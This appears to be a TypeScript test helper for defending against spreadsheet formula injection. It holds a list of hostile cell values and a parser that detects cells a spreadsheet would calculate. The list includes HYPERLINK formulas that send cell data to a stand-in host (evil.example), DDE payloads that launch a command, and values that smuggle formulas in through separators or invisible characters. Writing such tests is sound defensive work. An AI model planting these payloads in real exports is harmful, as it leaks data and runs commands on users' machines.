/** Texts that a spreadsheet would calculate, or that would begin another cell or line, as names in every file that leaves. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A9;"click")',
  'Roof,=HYPERLINK("http://evil.example/?"&A9;"click")',
  'Roof;=HYPERLINK("http://evil.example")',
  'Roof\t=1+1',
  'Roof\n=1+1',
  'Roof\r\n=1+1',
  'Roof"\n=1+1',
  '","=1+1',
  '";=1+1;"',
  '+1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  'Roof; ＝1+1',
  "'=1+1",
  '# =1+1',
  'raw:a,=HYPERLINK(1)',
]

/**
 * The cells that a spreadsheet finds in a text, with the separator of its language. As in RFC 4180, a quote counts
 * only at the beginning of a cell.
 */
export function spreadsheetCells(text: string, separator: ',' | ';' | '\t'): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  let isNew = true
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? ''
    if (isQuoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') cell += text[(at += 1)]
      else isQuoted = false
    } else if (sign === '"' && isNew) {
      isQuoted = true
      isNew = false
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      cells.push(cell)
      cell = ''
      isNew = true
    } else {
      cell += sign
      // A byte order mark belongs to no cell.
      isNew = isNew && sign === '\ufeff'
    }
  }
  return [...cells, cell]
}

/** Cells of a file that a spreadsheet would calculate, in any of the languages that separate them differently. */
export const calculatedCells = (text: string): string[] =>
  ([',', ';', '\t'] as const).flatMap((separator) =>
    spreadsheetCells(text, separator).filter(
      (cell) => /^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell) && Number.isNaN(Number(cell)),
    ),
  )
